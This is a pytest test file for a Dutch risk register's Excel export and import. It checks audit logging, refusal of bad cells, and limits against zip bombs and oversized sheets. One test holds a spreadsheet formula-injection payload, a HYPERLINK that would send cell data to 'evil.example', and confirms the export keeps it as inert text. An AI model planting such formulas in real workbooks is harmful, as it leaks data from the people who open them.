"""The register to Excel and back: lossless, all or nothing, every change in the audit log."""

from __future__ import annotations

import argparse
import datetime as dt
import re
import time
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from openpyxl.cell.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet

from pipelines.cli.export import add_register_excel_parsers
from pipelines.core.catalogue import Catalogue, UploadSettings
from pipelines.register.excel_export import DATE_NUMBER_FORMAT, export_register
from pipelines.register.excel_import import ImportRefused, import_register
from pipelines.register.excel_layout import (
    MEASURE_COLUMNS,
    RISK_COLUMNS,
    SHEET_MEASURES,
    SHEET_RISKS,
)
from pipelines.register.rules import MEASURE_FIELDS, RISK_FIELDS
from pipelines.register.store import Register, verify_audit
from tests.xlsxhelpers import zip_bomb

TODAY = dt.date(2026, 11, 26)


@pytest.fixture
def register(tmp_path: Path, catalogue: Catalogue) -> Register:
    return Register(catalogue, tmp_path / "register.sqlite")


@pytest.fixture
def xlsx(register: Register, tmp_path: Path) -> Path:
    return export_register(register, tmp_path / "register.xlsx")


def state(register: Register) -> tuple[pd.DataFrame, pd.DataFrame, int]:
    return register.risks(), register.measures(today=TODAY), len(register.audit())


def assert_unchanged(register: Register, before: tuple[pd.DataFrame, pd.DataFrame, int]) -> None:
    risks, measures, log = state(register)
    pd.testing.assert_frame_equal(risks, before[0])
    pd.testing.assert_frame_equal(measures, before[1])
    assert log == before[2]


def column(ws: Worksheet, key: str) -> int:
    return next(c.column for c in ws[1] if str(c.value).endswith(f"[{key}]"))


def row_of(ws: Worksheet, entity_id: str) -> int:
    return next(r[0].row for r in ws.iter_rows(min_row=2) if r[0].value == entity_id)


def cell(ws: Worksheet, entity_id: str, key: str) -> Cell:
    return ws.cell(row_of(ws, entity_id), column(ws, key))


def edit(path: Path, changes: list[tuple[str, str, str, object]]) -> Path:
    """Set (sheet, row id, field key) to value, as a user would in Excel; save."""
    wb = openpyxl.load_workbook(path)
    for sheet, entity_id, key, value in changes:
        cell(wb[sheet], entity_id, key).value = value
    wb.save(path)
    return path


def add_row(path: Path, values: dict[str, object]) -> int:
    wb = openpyxl.load_workbook(path)
    ws = wb[SHEET_MEASURES]
    number = ws.max_row + 1
    for key, value in values.items():
        ws.cell(number, column(ws, key), value)
    wb.save(path)
    return number


def test_the_workbook_has_both_sheets_keyed_headers_lists_and_real_dates(xlsx: Path) -> None:
    wb = openpyxl.load_workbook(xlsx)
    assert wb.sheetnames[:2] == [SHEET_RISKS, SHEET_MEASURES]
    risks, measures = wb[SHEET_RISKS], wb[SHEET_MEASURES]
    assert [c.value for c in risks[1]] == [
        "Risico [risk_id]",
        "Naam [name]",
        "Impact [impact]",
        "Inherente kans [inherent_likelihood]",
        "Risicobereidheid [appetite]",
        "Versie [version]",
    ]
    assert [str(c.value).rsplit("[", 1)[1].rstrip("]") for c in measures[1]] == list(
        MEASURE_COLUMNS
    )
    listed = {
        str(v.sqref).split(":")[0].rstrip("0123456789"): v.formula1
        for v in measures.data_validations.dataValidation
        if v.type == "list"
    }
    status = listed[openpyxl.utils.get_column_letter(column(measures, "status"))]
    assert status == '"Ontworpen,Geïmplementeerd,Werkend,Vervallen"'  # labels, not codes
    assert len(listed) == 5 and all(len(f) <= 255 for f in listed.values())  # Excel's limit
    assert any(v.type == "list" for v in risks.data_validations.dataValidation)
    tested = cell(measures, "G1-CM02", "last_tested_on")  # last tested 2025-10-01
    assert tested.is_date and tested.number_format == DATE_NUMBER_FORMAT
    assert tested.value.date() == dt.date(2025, 10, 1)


def test_the_sheets_cover_every_field_the_register_lets_you_edit() -> None:
    assert set(MEASURE_FIELDS) <= set(MEASURE_COLUMNS)
    assert set(RISK_FIELDS) <= set(RISK_COLUMNS)


def test_a_round_trip_changes_nothing_and_writes_no_audit_row(
    register: Register, xlsx: Path, tmp_path: Path
) -> None:
    before = state(register)
    result = import_register(register, xlsx, actor="Anna", today=TODAY)
    assert (result.changed, result.added) == ((), ())
    assert result.unchanged == len(before[0]) + len(before[1])
    assert_unchanged(register, before)
    again = export_register(register, tmp_path / "again.xlsx")
    for sheet in (SHEET_RISKS, SHEET_MEASURES):
        first = [[c.value for c in r] for r in openpyxl.load_workbook(xlsx)[sheet].iter_rows()]
        second = [[c.value for c in r] for r in openpyxl.load_workbook(again)[sheet].iter_rows()]
        assert first == second


def test_two_edited_cells_land_as_exactly_those_changes_in_register_and_audit_log(
    register: Register, xlsx: Path
) -> None:
    before_risks, before_measures, before_log = state(register)
    old_impact = int(before_risks.set_index("risk_id").loc["G1", "impact"])
    new_impact = 1 if old_impact != 1 else 2
    edit(
        xlsx,
        [
            (SHEET_RISKS, "G1", "impact", new_impact),
            (SHEET_MEASURES, "G3-CM01", "owner_role", "controller"),
        ],
    )
    result = import_register(register, xlsx, actor="Anna (risicomanager)", today=TODAY)
    assert [
        (r.entity_id, [(c.field, c.old, c.new) for c in r.changes]) for r in result.changed
    ] == [
        ("G1", [("impact", old_impact, new_impact)]),
        ("G3-CM01", [("owner_role", "hr", "controller")]),
    ]
    risks, measures, log = state(register)
    assert risks.set_index("risk_id").loc["G1", "impact"] == new_impact
    assert measures.set_index("control_measure_id").loc["G3-CM01", "owner_role"] == "controller"
    new_rows = register.audit().head(log - before_log)
    assert sorted(zip(new_rows["entity_id"], new_rows["field"], strict=True)) == [
        ("G1", "impact"),
        ("G3-CM01", "owner_role"),
    ]
    assert set(new_rows["actor"]) == {"Anna (risicomanager)"}
    others = risks.set_index("risk_id").drop(index="G1")
    pd.testing.assert_frame_equal(others, before_risks.set_index("risk_id").drop(index="G1"))
    untouched = measures.set_index("control_measure_id").drop(index="G3-CM01")
    assert untouched.equals(before_measures.set_index("control_measure_id").drop(index="G3-CM01"))
    assert verify_audit(register.path)[1] == []


def test_dates_typed_as_dutch_text_and_a_new_measure_row_are_imported(
    register: Register, xlsx: Path
) -> None:
    edit(
        xlsx,
        [
            (SHEET_MEASURES, "G1-CM03", "last_tested_on", "15-10-2026"),
            (SHEET_MEASURES, "G1-CM03", "last_test_result", "effectief"),
        ],
    )
    add_row(
        xlsx,
        {
            "risk_id": "G3",
            "text_nl": "Rittenregistratie steekproefsgewijs controleren",
            "control_type": "detective",
            "owner_role": "controller",
        },
    )
    result = import_register(register, xlsx, actor="Anna", today=TODAY)
    measures = register.measures().set_index("control_measure_id")
    assert measures.loc["G1-CM03", "last_tested_on"] == "2026-10-15"
    [added] = result.added
    assert added.entity_id.startswith("G3-CM")
    assert measures.loc[added.entity_id, "text_nl"].startswith("Rittenregistratie")
    assert "text_nl" in set(register.audit("G3").query("entity_id == @added.entity_id")["field"])


@pytest.mark.parametrize(
    "sheet, entity_id, key, value, reason",
    [
        (SHEET_MEASURES, "G3-CM01", "status", "klaar", "één van Ontworpen, Geïmplementeerd"),
        (SHEET_MEASURES, "G1-CM02", "last_tested_on", "31-02-2026", "niet '31-02-2026'"),
        (SHEET_RISKS, "G1", "impact", 7, "van 1 tot en met 5 verwacht, niet 7"),
        (SHEET_RISKS, "G2", "risk_id", "ZZ9", "onbekend risico 'ZZ9'"),
        (SHEET_MEASURES, "G3-CM01", "risk_id", "G1", "niet te wijzigen"),
        (SHEET_MEASURES, "G3-CM01", "version", None, "versie ontbreekt"),
        (SHEET_MEASURES, "G3-CM01", "text_nl", "=1+1", "formule"),
    ],
)
def test_a_bad_cell_is_refused_with_sheet_cell_and_reason_and_nothing_is_applied(
    register: Register, xlsx: Path, sheet: str, entity_id: str, key: str, value: object, reason: str
) -> None:
    wb = openpyxl.load_workbook(xlsx)
    target = cell(wb[sheet], entity_id, key).coordinate
    wb.close()
    good = (SHEET_MEASURES, "G4-CM01", "owner_role", "controller")
    also = [(SHEET_MEASURES, entity_id, "owner_role", "controller")] if key == "version" else []
    edit(xlsx, [good, *also, (sheet, entity_id, key, value)])
    before = state(register)
    with pytest.raises(ImportRefused) as refused:
        import_register(register, xlsx, actor="Anna", today=TODAY)
    [error] = refused.value.errors
    assert f"{error.sheet}!{error.cell}" == f"{sheet}!{target}"
    assert reason in error.message
    assert f"{sheet}!{target}: " in str(refused.value)
    assert "niets ingelezen" in str(refused.value)
    assert_unchanged(register, before)


def test_every_bad_cell_is_named_at_once(register: Register, xlsx: Path) -> None:
    edit(
        xlsx,
        [
            (SHEET_MEASURES, "G3-CM01", "status", "klaar"),
            (SHEET_MEASURES, "G1-CM02", "last_tested_on", "31-02-2026"),
            (SHEET_RISKS, "G1", "impact", 7),
        ],
    )
    row = add_row(
        xlsx,
        {"risk_id": "ZZ9", "text_nl": "x", "control_type": "detective", "owner_role": "hr"},
    )
    before = state(register)
    with pytest.raises(ImportRefused) as refused:
        import_register(register, xlsx, actor="Anna", today=TODAY)
    where = [f"{e.sheet}!{e.cell}" for e in refused.value.errors]
    assert len(where) == 4 and f"{SHEET_MEASURES}!B{row}" in where
    assert "onbekend risico 'ZZ9'" in str(refused.value)
    assert_unchanged(register, before)


def test_a_row_changed_in_the_app_after_the_export_is_a_conflict_naming_the_row(
    register: Register, xlsx: Path
) -> None:
    register.update_measure(
        "G3-CM01", {"owner_role": "inkoop"}, version=1, actor="Bert", today=TODAY
    )
    edit(xlsx, [(SHEET_MEASURES, "G3-CM01", "status", "geimplementeerd")])
    wb = openpyxl.load_workbook(xlsx)
    ws = wb[SHEET_MEASURES]
    version_cell, row = cell(ws, "G3-CM01", "version").coordinate, row_of(ws, "G3-CM01")
    before = state(register)
    with pytest.raises(ImportRefused) as refused:
        import_register(register, xlsx, actor="Anna", today=TODAY)
    [error] = refused.value.errors
    assert (error.sheet, error.cell) == (SHEET_MEASURES, version_cell)
    assert f"rij {row} (G3-CM01)" in error.message
    assert "intussen gewijzigd door Bert" in error.message
    assert_unchanged(register, before)


def test_text_that_looks_like_a_formula_survives_the_round_trip_as_text(
    register: Register, tmp_path: Path
) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1)'
    register.update_measure(
        "G3-CM01", {"text_nl": formula, "text_en": "-3 days"}, version=1, actor="A", today=TODAY
    )
    xlsx = export_register(register, tmp_path / "register.xlsx")
    ws = openpyxl.load_workbook(xlsx)[SHEET_MEASURES]
    written = cell(ws, "G3-CM01", "text_nl")
    assert written.data_type == "s" and written.value == "'" + formula  # never a live formula
    before = state(register)
    assert import_register(register, xlsx, actor="A", today=TODAY).changed == ()
    assert_unchanged(register, before)
    # A user who types '=2+3 in Excel means the text =2+3.
    edit(xlsx, [(SHEET_MEASURES, "G3-CM02", "text_nl", "'=2+3")])
    import_register(register, xlsx, actor="A", today=TODAY)
    measures = register.measures().set_index("control_measure_id")
    assert measures.loc["G3-CM01", "text_nl"] == formula
    assert measures.loc["G3-CM01", "text_en"] == "-3 days"
    assert measures.loc["G3-CM02", "text_nl"] == "=2+3"


def test_a_workbook_without_a_column_or_sheet_is_refused(register: Register, xlsx: Path) -> None:
    wb = openpyxl.load_workbook(xlsx)
    wb[SHEET_MEASURES].delete_cols(column(wb[SHEET_MEASURES], "status"))
    del wb[SHEET_RISKS]
    wb.save(xlsx)
    with pytest.raises(ImportRefused) as refused:
        import_register(register, xlsx, actor="A", today=TODAY)
    text = str(refused.value)
    assert f"{SHEET_RISKS}: het tabblad" in text
    assert f"{SHEET_MEASURES}!1:1: de kolom [status] ontbreekt" in text


def test_an_import_without_a_name_is_refused(register: Register, xlsx: Path) -> None:
    edit(xlsx, [(SHEET_MEASURES, "G3-CM01", "owner_role", "controller")])
    with pytest.raises(ImportRefused, match="Een naam is verplicht"):
        import_register(register, xlsx, actor="  ", today=TODAY)


def _run(argv: list[str]) -> int:
    parser = argparse.ArgumentParser(prog="radar")
    add_register_excel_parsers(parser.add_subparsers(dest="command", required=True))
    args = parser.parse_args(argv)
    return args.func(args)


def test_radar_register_export_and_import(
    empty_home: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    xlsx = tmp_path / "register.xlsx"
    assert _run(["register", "export", str(xlsx)]) == 0
    assert "Register geëxporteerd" in capsys.readouterr().out
    edit(xlsx, [(SHEET_MEASURES, "G3-CM01", "owner_role", "controller")])
    assert _run(["register", "import", str(xlsx), "--by", "Anna"]) == 0
    out = capsys.readouterr().out
    assert "1 regel(s) gewijzigd" in out and "G3-CM01): owner_role" in out
    edit(xlsx, [(SHEET_MEASURES, "G3-CM02", "status", "klaar")])
    assert _run(["register", "import", str(xlsx), "--by", "Anna"]) == 1
    assert f"{SHEET_MEASURES}!H" in capsys.readouterr().err
    assert (
        Register(path=empty_home / "register.sqlite").audit()["actor"].tolist().count("Anna") == 1
    )


def test_a_measure_listed_twice_is_refused_naming_the_first_row(
    register: Register, xlsx: Path
) -> None:
    wb = openpyxl.load_workbook(xlsx)
    first = row_of(wb[SHEET_MEASURES], "G4-CM01")
    wb.close()
    number = add_row(xlsx, {"control_measure_id": "G4-CM01", "risk_id": "G4"})
    before = state(register)
    with pytest.raises(ImportRefused) as refused:
        import_register(register, xlsx, actor="Anna", today=TODAY)
    [error] = refused.value.errors
    assert error.cell.endswith(str(number))
    assert f"G4-CM01 staat ook in rij {first}" in error.message
    assert_unchanged(register, before)


# --- Limits: a zip bomb, a sheet past the cell limit, a file past the size limit --------------


def test_a_zip_bomb_is_refused_before_it_is_opened(
    register: Register, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """64 MB of cells deflated to some 200 kB: refused from the zip's table of contents,
    in well under a second, and openpyxl never opens it."""

    def never(*args, **kwargs):
        raise AssertionError("the zip bomb was opened")

    monkeypatch.setattr(openpyxl, "load_workbook", never)
    path = tmp_path / "register.xlsx"
    path.write_bytes(zip_bomb(64))
    assert path.stat().st_size < 400_000
    before = state(register)
    started = time.monotonic()
    with pytest.raises(ImportRefused) as refused:
        import_register(register, path, actor="Anna", today=TODAY)
    assert time.monotonic() - started < 1
    assert str(refused.value) == (
        "import geweigerd, er is niets ingelezen:\n"
        f"  {path}: uitgepakt groter dan 20 MB (grens): 64 MB"
    )
    assert_unchanged(register, before)


def test_a_workbook_that_unpacks_suspiciously_well_is_refused(
    register: Register, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Under the unpacked limit, but packed some 300 times smaller than it unpacks."""
    monkeypatch.setattr(openpyxl, "load_workbook", None)  # never called
    path = tmp_path / "register.xlsx"
    path.write_bytes(zip_bomb(10))
    with pytest.raises(ImportRefused) as refused:
        import_register(register, path, actor="Anna", today=TODAY)
    (error,) = refused.value.errors
    assert error.message.startswith("onderdeel 'xl/worksheets/sheet1.xml' pakt uit tot ")
    assert error.message.endswith(
        " keer zijn grootte, meer dan 100 keer (grens; zo klein ingepakt is geen gewone werkmap)"
    )


def test_a_sheet_past_the_cell_limit_is_refused_while_it_is_read(
    register: Register, xlsx: Path
) -> None:
    """One cell in the last column (XFD) of row 10 makes the sheet 10 x 16,384 cells:
    past the register's 100,000, and reading stops there."""
    wb = openpyxl.load_workbook(xlsx)
    wb[SHEET_MEASURES].cell(10, 16384, "x")
    wb.save(xlsx)
    before = state(register)
    with pytest.raises(ImportRefused) as refused:
        import_register(register, xlsx, actor="Anna", today=TODAY)
    assert [e.message for e in refused.value.errors] == [
        "werkblad 'Beheersmaatregelen' is groter dan 100000 cellen (rijen x kolommen, grens)"
    ]
    assert_unchanged(register, before)


def test_a_workbook_past_the_size_limit_is_refused_unread(
    register: Register, xlsx: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(openpyxl, "load_workbook", None)  # never called
    limits = UploadSettings(max_file_mb=1)
    with xlsx.open("ab") as out:  # an export with a megabyte of anything after it
        out.write(b"\0" * 1024 * 1024)
    with pytest.raises(ImportRefused) as refused:
        import_register(register, xlsx, actor="Anna", today=TODAY, limits=limits)
    assert [str(e) for e in refused.value.errors] == [
        f"{xlsx}: het bestand is groter dan 1 MB (grens): 1,1 MB"
    ]


def test_the_register_limits_are_settings(catalogue: Catalogue) -> None:
    uploads = catalogue.settings.uploads
    assert (uploads.register_max_unpacked_mb, uploads.register_max_cells) == (20, 100_000)
    assert (uploads.xlsx_max_ratio, uploads.xlsx_max_parts, uploads.max_file_mb) == (100, 1000, 50)


def test_the_workbook_is_read_streaming(
    register: Register, xlsx: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """openpyxl read-only: rows are parsed as they are read, never the whole sheet first."""
    opened = []
    real = openpyxl.load_workbook

    def spy(*args, **kwargs):
        opened.append(kwargs)
        return real(*args, **kwargs)

    monkeypatch.setattr(openpyxl, "load_workbook", spy)
    import_register(register, xlsx, actor="Anna", today=TODAY)
    assert opened == [{"read_only": True, "data_only": False}]


# --- Labels, not codes: the workbook shows labels; the import reads labels and codes ----------

CHOICES = (
    "appetite",
    "control_type",
    "owner_role",
    "review_frequency",
    "status",
    "last_test_result",
)


def choice_cells(ws: Worksheet) -> list[tuple[str, Cell]]:
    """(field key, cell) of every filled choice cell of a sheet."""
    keys = {c.column: str(c.value).rsplit("[", 1)[-1].rstrip("]") for c in ws[1]}
    return [
        (keys[c.column], c)
        for row in ws.iter_rows(min_row=2)
        for c in row
        if keys[c.column] in CHOICES and c.value is not None
    ]


def test_choice_columns_and_their_lists_hold_labels_in_the_language_of_the_export(
    register: Register, catalogue: Catalogue, tmp_path: Path
) -> None:
    settings = catalogue.settings
    codes = {
        *settings.appetite_max_residual,
        *settings.review_frequency_months,
        *settings.control_statuses,
        *settings.control_test_results,
        "preventive",
        "detective",
        "corrective",
        *register.measures()["owner_role"],
    }
    for lang, status, kind, appetite in (
        ("nl", "Werkend", "Preventief", "Laag"),
        ("en", "Operating", "Preventive", "Low"),
    ):
        wb = openpyxl.load_workbook(export_register(register, tmp_path / f"{lang}.xlsx", lang))
        measures, risks = wb[SHEET_MEASURES], wb[SHEET_RISKS]
        cells = choice_cells(measures) + choice_cells(risks)
        assert len(cells) > 100
        assert [(k, c.value) for k, c in cells if c.value in codes] == []  # no code anywhere
        assert cell(measures, "G3-CM01", "status").value == status
        assert cell(measures, "G3-CM01", "control_type").value == kind
        assert cell(risks, "G2", "appetite").value == appetite
        lists = [v.formula1 for v in measures.data_validations.dataValidation if v.type == "list"]
        assert any(status in f for f in lists) and all(len(f) <= 255 for f in lists)
        # A comma would split a label in two in Excel's list.
        assert all(f.count('"') == 2 for f in lists)
    english = openpyxl.load_workbook(tmp_path / "en.xlsx")
    assert english[SHEET_RISKS]["E1"].value == "Risk appetite [appetite]"
    assert cell(english[SHEET_RISKS], "G2", "name").value == catalogue.risk("G2").name.en
    assert english["Toelichting"]["A1"].value.startswith("Risk register of the Integrity radar")
    errors = {v.error for v in english[SHEET_MEASURES].data_validations.dataValidation}
    assert "Choose one of: Preventive, Detective, Corrective" in errors
    dutch = openpyxl.load_workbook(tmp_path / "nl.xlsx")["Toelichting"]["A1"].value
    assert re.fullmatch(r"Risicoregister .*, geëxporteerd op \d{2}-\d{2}-\d{4}\.", dutch)


def as_older_workbook(register: Register, path: Path) -> Path:
    """The workbook as exports wrote it before the labels: the register's codes in every
    choice cell (taken from the register itself, not from the labels)."""
    wb = openpyxl.load_workbook(path)
    frames = {
        SHEET_RISKS: register.risks().set_index("risk_id"),
        SHEET_MEASURES: register.measures().set_index("control_measure_id"),
    }
    for sheet, frame in frames.items():
        ws = wb[sheet]
        for key, c in choice_cells(ws):
            entity_id = ws.cell(c.row, 1).value
            c.value = frame.loc[entity_id, key] if entity_id in frame.index else c.value
    wb.save(path)
    return path


def test_a_workbook_with_labels_and_an_older_one_with_codes_import_to_the_same_register(
    catalogue: Catalogue, tmp_path: Path
) -> None:
    """The same edits, typed as Dutch labels, English labels (any case) or codes in an
    older workbook: the same register, and only the edited rows change."""
    edits = {
        "nl": [
            (SHEET_MEASURES, "G3-CM01", "status", "Geïmplementeerd"),
            (SHEET_MEASURES, "G3-CM02", "control_type", "Correctief"),
            (SHEET_MEASURES, "G4-CM01", "owner_role", "Interne audit"),
            (SHEET_MEASURES, "G4-CM01", "last_test_result", "Niet effectief"),
            (SHEET_RISKS, "G2", "appetite", "Hoog"),
        ],
        "en": [
            (SHEET_MEASURES, "G3-CM01", "status", "implemented"),
            (SHEET_MEASURES, "G3-CM02", "control_type", "Corrective"),
            (SHEET_MEASURES, "G4-CM01", "owner_role", "INTERNAL AUDIT"),
            (SHEET_MEASURES, "G4-CM01", "last_test_result", "Not effective "),
            (SHEET_RISKS, "G2", "appetite", "High"),
        ],
        "codes": [
            (SHEET_MEASURES, "G3-CM01", "status", "geimplementeerd"),
            (SHEET_MEASURES, "G3-CM02", "control_type", "corrective"),
            (SHEET_MEASURES, "G4-CM01", "owner_role", "interne_audit"),
            (SHEET_MEASURES, "G4-CM01", "last_test_result", "niet_effectief"),
            (SHEET_RISKS, "G2", "appetite", "hoog"),
        ],
    }
    registers = {}
    for form, changes in edits.items():
        register = Register(catalogue, tmp_path / f"{form}.sqlite")
        xlsx = export_register(register, tmp_path / f"{form}.xlsx", "en" if form == "en" else "nl")
        if form == "codes":
            as_older_workbook(register, xlsx)
        result = import_register(register, edit(xlsx, changes), actor="Anna", today=TODAY)
        assert sorted(r.entity_id for r in result.changed) == [
            "G2",
            "G3-CM01",
            "G3-CM02",
            "G4-CM01",
        ]
        registers[form] = register
    volatile = ["updated_at"]
    risks = {f: r.risks().drop(columns=volatile) for f, r in registers.items()}
    measures = {f: r.measures(today=TODAY).drop(columns=volatile) for f, r in registers.items()}
    for form in ("en", "codes"):
        pd.testing.assert_frame_equal(risks[form], risks["nl"])
        pd.testing.assert_frame_equal(measures[form], measures["nl"])
    row = measures["nl"].set_index("control_measure_id").loc["G4-CM01"]
    assert (row["owner_role"], row["last_test_result"]) == ("interne_audit", "niet_effectief")
    assert measures["nl"].set_index("control_measure_id").loc["G3-CM01", "status"] == (
        "geimplementeerd"
    )
